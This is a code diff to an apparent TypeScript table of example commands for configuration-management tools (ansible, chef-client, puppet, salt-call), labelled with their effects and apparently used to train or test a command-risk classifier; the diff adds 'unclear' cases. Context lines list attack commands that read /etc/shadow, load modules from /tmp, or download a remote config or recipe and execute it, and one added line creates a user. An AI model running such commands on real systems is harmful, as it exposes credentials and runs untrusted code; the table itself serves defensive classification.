@@ -7,6 +7,7 @@ export const configurationManagement1: ExampleTable = {
       "ansible all -i hosts.ini -m shell -a 'cat /etc/shadow' → read /etc/shadow; read hosts.ini",
       'ansible all -M /tmp -m own → load /tmp',
     ],
+    unclear: 'ansible localhost -m getent -a database=passwd → a module that nobody described',
   },
   'ansible-builder': {
     use: 'ansible-builder build -f execution-environment.yml → read execution-environment.yml',
@@ -124,6 +125,7 @@ export const configurationManagement1: ExampleTable = {
       'chef-client --local-mode --recipe-url=https://example.org/x.tgz → execute ‹https://example.org/x.tgz›',
       'curl -so c.rb https://example.org/x && chef-client -c c.rb → execute ‹https://example.org/x›',
     ],
+    unclear: 'chef-client → who gives it orders',
   },
   'chef-run': {
     use: 'chef-run web recipe.rb → read recipe.rb; send web',
@@ -191,6 +193,7 @@ export const configurationManagement1: ExampleTable = {
     use: 'puppet agent --test --server=puppet.example.org → send puppet.example.org',
     attack:
       'curl -so p.conf https://example.org/x && puppet agent --test --config=p.conf → execute ‹https://example.org/x›',
+    unclear: 'puppet agent --test → who gives it orders',
   },
   'puppet apply': {
     use: 'puppet apply site.pp → read site.pp',
@@ -236,6 +239,7 @@ export const configurationManagement1: ExampleTable = {
       "salt-call --local cmd.run 'cat /etc/shadow' → read /etc/shadow",
       'salt-call --local -m /tmp own.run → load /tmp',
     ],
+    unclear: 'salt-call --local user.add eve → a module that nobody described',
   },
   'salt-cloud': {
     use: 'salt-cloud -m cloud.map → read cloud.map',
